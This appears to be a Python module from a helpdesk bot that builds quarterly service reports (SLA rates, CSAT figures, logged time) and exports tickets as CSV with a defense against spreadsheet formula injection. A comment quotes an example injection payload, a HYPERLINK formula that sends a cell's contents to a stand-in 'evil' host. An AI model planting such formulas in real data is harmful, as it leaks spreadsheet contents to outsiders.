"""What the report says: its lines (the CLI prints them), the chat card, and the CSV rows.

What people typed (client names, at intake and after `report`), categories (named in the
config, as on the ticket card) and error text (a pattern's label) are `Typed` on the card;
priorities, resolution categories (the closure form's fixed list), figures and ticket numbers
are the bot's own words.
"""

from __future__ import annotations

import math
from datetime import datetime

from cards.model import Card, Facts, Inline, Rich, Text, Typed, plain
from handlers.reports.rules import NO_CLIENT, Rate, Summary
from handlers.sla import outcome
from storage.reports import TicketRow

CSV_HEADER = (
    "number,client,requester,priority,category,created,respond_by,first_response,respond,"
    "resolve_by,closed,resolve,resolution_category,time_minutes,csat"
).split(",")
MAX_CLIENTS = 20


def tenths(part: int, whole: int) -> int:
    """`part / whole` in tenths, halves rounded up as people and spreadsheets (ROUND) round
    them (3.25 is 3.3): exact integers, not a float's round-half-to-even (3.2)."""
    return (20 * part + whole) // (2 * whole)


def _decimal(value: int) -> str:
    return f"{value // 10}.{value % 10}"


def percent(part: int, whole: int) -> str:
    """`93.3%`, `100%`; `100%` and `0%` only when they are exact (1999 of 2000 is `99.9%`,
    1 of 2000 `0.1%`: never all met while one was missed, nor none while one was met)."""
    share = tenths(100 * part, whole)
    if 0 < part < whole:
        share = min(max(share, 1), 999)
    return _decimal(share).removesuffix(".0") + "%"


def average(ratings: tuple[int, ...]) -> str:
    """The CSAT average of answers 1 .. 5 (`ratings`: how many of each), one decimal; `-`
    without an answer."""
    answers = sum(ratings)
    if not answers:
        return "-"
    return _decimal(tenths(sum(r * n for r, n in enumerate(ratings, start=1)), answers))


def rate(value: Rate) -> str:
    """`93.3% (252 of 270)`; `n/a (0 of 0)` while no target of the period is decided."""
    if not value.decided:
        return "n/a (0 of 0)"
    return f"{percent(value.met, value.decided)} ({value.met} of {value.decided})"


def hours(minutes: int) -> str:
    """Logged time as billed: `3h 30m`, `45m`, `120h`."""
    h, m = divmod(minutes, 60)
    parts = [f"{h}h"] * bool(h) + [f"{m}m"] * bool(m)
    return " ".join(parts) or "0m"


def span(seconds: float | None) -> str:
    """A median: `40s`, `1h 5m`, `2d 3h 10m`; `-` when there is none. Halves round up, as
    people round them (a median of two is often one: 59.5 s is `1m`, 2.5 minutes `3m`)."""
    if seconds is None:
        return "-"
    whole = math.floor(seconds + 0.5)
    if whole < 60:
        return f"{whole}s"
    minutes = (whole + 30) // 60
    days, rest = divmod(minutes, 1440)
    h, m = divmod(rest, 60)
    return " ".join([f"{days}d"] * bool(days) + [f"{h}h"] * bool(h) + [f"{m}m"] * bool(m))


def _counts(pairs: list[tuple[str, int]], *, typed: bool = False) -> Inline:
    """`P1 2, P2 5`; with `typed`, the names are what people typed (`-` stays the bot's)."""
    parts: list[Inline] = []
    for name, count in pairs:
        shown: Inline = Typed(name) if typed and name != "-" else name
        parts += [", "] * bool(parts) + [shown, f" {count}"]
    return Rich(*parts) if parts else "none"


def _rates(pairs: list[tuple[str, Rate]]) -> str:
    return ", ".join(f"{name} {rate(r)}" for name, r in pairs if r.decided) or "none"


def _client(name: str) -> Inline:
    """A client as typed; the bot's `(no client)` for tickets without one."""
    return name if name == NO_CLIENT else Typed(name)


def _clients(summary: Summary) -> Inline:
    shown = summary.minutes_by_client[:MAX_CLIENTS]
    parts: list[Inline] = []
    for name, m in shown:
        parts += [", "] * bool(parts) + [_client(name), f" {hours(m)}"]
    rest = summary.minutes_by_client[MAX_CLIENTS:]
    if rest:
        parts.append(f", {len(rest)} more clients {hours(sum(m for _, m in rest))}")
    return Rich(*parts)


def _patterns(patterns: list[Inline]) -> Inline:
    parts: list[Inline] = []
    for pattern in patterns:
        parts += ["; "] * bool(parts) + [pattern]
    return Rich(*parts) if parts else "none"


def title(summary: Summary) -> Inline:
    who: Inline = Typed(summary.client) if summary.client else "all clients"
    return Rich("QBR report: ", who, f", {summary.period} (UTC days, tickets by creation date)")


def facts(summary: Summary) -> list[tuple[str, Inline]]:
    """Every figure, labelled as SPEC names them."""
    distribution = ", ".join(f"{r}: {summary.ratings[r - 1]}" for r in range(5, 0, -1))
    logged: Inline = hours(summary.minutes_total)
    if summary.minutes_by_client:
        logged = Rich(logged, " (", _clients(summary), ")")
    return [
        ("Opened", str(summary.opened)),
        ("Closed", str(summary.closed)),
        ("By category", _counts(summary.by_category, typed=True)),
        ("By priority", _counts(summary.by_priority)),
        ("By resolution category", _counts(summary.by_resolution)),
        ("Respond met", rate(summary.respond)),
        ("Respond met by priority", _rates(summary.respond_by_priority)),
        ("Resolve met", rate(summary.resolve)),
        ("Resolve met by priority", _rates(summary.resolve_by_priority)),
        ("Median time to first response", span(summary.median_first_response)),
        ("Median time to resolution", span(summary.median_resolution)),
        ("CSAT average", average(summary.ratings)),
        ("CSAT distribution", distribution),
        (
            "CSAT response rate",
            f"{percent(summary.answers, summary.surveys_sent)} "
            f"({summary.answers} of {summary.surveys_sent})"
            if summary.surveys_sent
            else "n/a (no survey sent)",
        ),
        ("Time logged", logged),
        ("Fixes confirmed", str(summary.fixes_confirmed)),
        ("Fixes unconfirmed", str(summary.fixes_unconfirmed)),
        ("Top patterns", _patterns(summary.patterns)),
    ]


def lines(summary: Summary) -> list[str]:
    """The report as text, one figure a line."""
    return [
        plain(title(summary)),
        *(f"{label}: {plain(value)}" for label, value in facts(summary)),
    ]


def report_card(summary: Summary) -> Card:
    """The report in chat (the chart comes with it as an image)."""
    items: list[tuple[Inline, Inline]] = list(facts(summary))
    body: list[Text | Facts] = [Facts(items)]
    if summary.client and summary.other_clients:
        parts: list[Inline] = []
        for name, count in summary.other_clients:
            parts += [", "] * bool(parts) + [_client(name), f" {count}"]
        said = Rich(
            "No ticket of ",
            Typed(summary.client),
            " was opened in this period (clients are matched whole, in any case). "
            "Clients with tickets in it: ",
            *parts,
        )
        body.append(Text(said, muted=True))
    elif not summary.opened:
        body.append(Text("No ticket was opened in this period.", muted=True))
    return Card(title=title(summary), body=list(body), fallback="\n".join(lines(summary)))


def _moment(value: datetime | None) -> str:
    return value.strftime("%Y-%m-%dT%H:%M:%SZ") if value else ""


# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
# (OWASP "CSV Injection"): a requester's chat display name `=HYPERLINK("https://evil/?"&B2, "Open")`
# would run in the MSP's spreadsheet. Such a cell is written with a leading apostrophe, which
# they show as text.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _cell(value: str) -> str:
    return "'" + value if value.startswith(_FORMULA_START) else value


def csv_row(row: TicketRow, now: datetime) -> list[str]:
    """One ticket, in CSV_HEADER's order (times in UTC, ISO 8601); a cell a spreadsheet would
    take for a formula is made text."""
    cells = [
        row.number,
        row.client,
        row.requester,
        row.priority,
        row.category,
        _moment(row.created_at),
        _moment(row.respond_by),
        _moment(row.first_response_at),
        outcome(row.respond_met, row.respond_by, now),
        _moment(row.resolve_by),
        _moment(row.closed_at),
        outcome(row.resolve_met, row.resolve_by, now),
        row.resolution_category,
        str(row.time_minutes),
        "" if row.csat_rating is None else str(row.csat_rating),
    ]
    return [_cell(cell) for cell in cells]
